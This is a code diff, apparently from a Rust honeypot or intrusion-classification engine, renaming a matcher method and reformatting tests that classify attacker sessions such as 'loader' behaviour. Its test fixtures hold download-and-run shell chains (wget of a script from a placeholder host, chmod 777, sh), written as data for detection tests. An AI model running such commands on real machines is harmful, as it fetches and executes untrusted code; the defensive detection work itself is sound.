@@ -178,7 +178,7 @@ impl Engine {
 
     /// The matched primitive set of a session, compiled matcher.
     fn match_events<'a>(&self, events: impl Iterator<Item = &'a Event>) -> PrimSet {
-        let mut set = PrimSet::new(self.matcher.len());
+        let mut set = PrimSet::new(self.matcher.primitive_count());
         let mut facts = SessionFacts::default();
         for e in events {
             facts.see(e);
@@ -205,8 +205,8 @@ impl Engine {
         if let (Some(fact), Some(p)) = (facts.fact(), facts.protocol) {
             values.push((Field::Session, fact.to_owned(), protocol_bit(p)));
         }
-        let mut set = PrimSet::new(self.matcher.len());
-        for prim in 0..self.matcher.len() as u32 {
+        let mut set = PrimSet::new(self.matcher.primitive_count());
+        for prim in 0..self.matcher.primitive_count() as u32 {
             if values
                 .iter()
                 .any(|(f, v, bit)| self.matcher.naive_match(prim, *f, v, *bit))
@@ -220,7 +220,7 @@ impl Engine {
     /// Classifies a set of primitive ids (as stored), e.g. to re-resolve stored sets against
     /// a new catalog without the raw events. Unknown ids make the set unclassifiable.
     pub fn resolve<S: AsRef<str>>(&self, primitive_ids: &[S]) -> Outcome {
-        let mut set = PrimSet::new(self.matcher.len());
+        let mut set = PrimSet::new(self.matcher.primitive_count());
         for id in primitive_ids {
             match self.prim_index.get(id.as_ref()) {
                 Some(&i) => set.insert(i),
@@ -235,7 +235,10 @@ impl Engine {
             .iter()
             .map(|i| self.catalog.primitives[i as usize].id.clone())
             .collect();
-        let Some(rarest) = set.iter().min_by_key(|&i| self.by_primitive[i as usize].len()) else {
+        let Some(rarest) = set
+            .iter()
+            .min_by_key(|&i| self.by_primitive[i as usize].len())
+        else {
             return Classification {
                 primitives,
                 outcome: Outcome::Nothing,
@@ -448,7 +451,13 @@ when = "ua-zgrab"
             ("t.toml".to_string(), CAT.to_string()),
         ];
         let c = Catalog::parse(&files).unwrap_or_else(|d| {
-            panic!("{}", d.iter().map(|x| x.to_string()).collect::<Vec<_>>().join("\n"))
+            panic!(
+                "{}",
+                d.iter()
+                    .map(|x| x.to_string())
+                    .collect::<Vec<_>>()
+                    .join("\n")
+            )
         });
         Engine::new(c).unwrap()
     }
@@ -492,7 +501,13 @@ when = "ua-zgrab"
     #[test]
     fn each_operator_matches() {
         let e = engine();
-        let c = both(&e, &[login(), cmd("WGET http://x/y; chmod 777 y; bash y.sh; uname -a")]);
+        let c = both(
+            &e,
+            &[
+                login(),
+                cmd("WGET http://x/y; chmod 777 y; bash y.sh; uname -a"),
+            ],
+        );
         assert_eq!(c.primitives, ["login", "wget", "chmod", "run-sh", "uname"]);
         // EQUALS is whole-value; CONTAINS case-sensitive respects case.
         let c = both(&e, &[cmd("uname -a -r; echo secret")]);
@@ -508,18 +523,27 @@ when = "ua-zgrab"
     #[test]
     fn exact_set_semantics() {
         let e = engine();
-        let full = [login(), cmd("cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh")];
+        let full = [
+            login(),
+            cmd("cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"),
+        ];
         assert_eq!(both(&e, &full).outcome, Outcome::Behavior("loader".into()));
         // Optional recon does not change the class.
         let with_recon = [login(), cmd("uname -a; wget http://x/b; chmod 777 b")];
-        assert_eq!(both(&e, &with_recon).outcome, Outcome::Behavior("loader".into()));
+        assert_eq!(
+            both(&e, &with_recon).outcome,
+            Outcome::Behavior("loader".into())
+        );
         // One missing required primitive: no match for loader.
         let missing = [cmd("wget http://x/b; chmod 777 b")];
         assert_eq!(both(&e, &missing).outcome, Outcome::Unclassified);
         // One extra primitive that no behavior names alongside these: unclassified, except the
         // broader behavior that does name it.
         let extra = [login(), cmd("wget http://x/b; chmod 777 b; echo SECRET")];
-        assert_eq!(both(&e, &extra).outcome, Outcome::Behavior("loader-broad".into()));
+        assert_eq!(
+            both(&e, &extra).outcome,
+            Outcome::Behavior("loader-broad".into())
+        );
         let extra = [
             login(),
             cmd("wget http://x/b; chmod 777 b"),
@@ -576,6 +600,9 @@ when = "ua-zgrab"
         assert_eq!(out[0].classification.outcome.behavior(), Some("b-tie"));
         assert_eq!(out[1].classification.outcome.behavior(), Some("guessing"));
         let b = e.behavior("loader").unwrap();
-        assert_eq!(b.techniques[0].url, "https://attack.mitre.org/techniques/T1105/");
+        assert_eq!(
+            b.techniques[0].url,
+            "https://attack.mitre.org/techniques/T1105/"
+        );
     }
 }
